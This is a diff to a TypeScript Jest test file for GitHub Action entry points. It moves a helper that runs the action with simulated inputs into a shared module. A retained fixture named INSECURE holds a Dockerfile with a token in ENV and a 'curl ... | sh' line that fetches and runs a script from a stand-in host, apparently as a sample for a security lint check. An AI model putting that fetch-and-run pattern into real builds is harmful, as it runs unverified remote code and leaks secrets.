@@ -1,25 +1,9 @@
 /** The bundled action entry points run as GitHub runs them: INPUT_* env, GITHUB_OUTPUT, GITHUB_STEP_SUMMARY. */
 import { describe, expect, it } from '@jest/globals';
-import { spawnSync } from 'node:child_process';
 import fs from 'node:fs';
 import path from 'node:path';
-import { REPO_ROOT } from './helpers/corpus.js';
+import { runAction } from './helpers/actions.js';
 import { FAKE_TOKEN, makeTree } from './helpers/fixtures.js';
-
-function runAction(entry: 'lint' | 'main', workspace: string, inputs: Record<string, string>) {
-  const output = path.join(workspace, '.gh-output');
-  const summary = path.join(workspace, '.gh-summary');
-  fs.writeFileSync(output, '');
-  fs.writeFileSync(summary, '');
-  const env: Record<string, string> = { PATH: process.env.PATH ?? '', GITHUB_WORKSPACE: workspace, GITHUB_OUTPUT: output, GITHUB_STEP_SUMMARY: summary };
-  for (const [k, v] of Object.entries(inputs)) env[`INPUT_${k.toUpperCase()}`] = v;
-  const r = spawnSync(process.execPath, [path.join(REPO_ROOT, 'dist', entry, 'index.js')], { cwd: workspace, env, encoding: 'utf8' });
-  // GITHUB_OUTPUT uses `name<<delimiter` blocks.
-  const outputs: Record<string, string> = {};
-  const text = fs.readFileSync(output, 'utf8');
-  for (const m of text.matchAll(/^([\w-]+)<<(\S+)\n([\s\S]*?)\n\2$/gm)) outputs[m[1]] = m[3];
-  return { code: r.status, stdout: r.stdout, outputs, summary: fs.readFileSync(summary, 'utf8') };
-}
 
 const INSECURE = `FROM ubuntu\nENV GITHUB_TOKEN=${FAKE_TOKEN}\nRUN curl -fsSL https://x.example/i.sh | sh\n`;
 
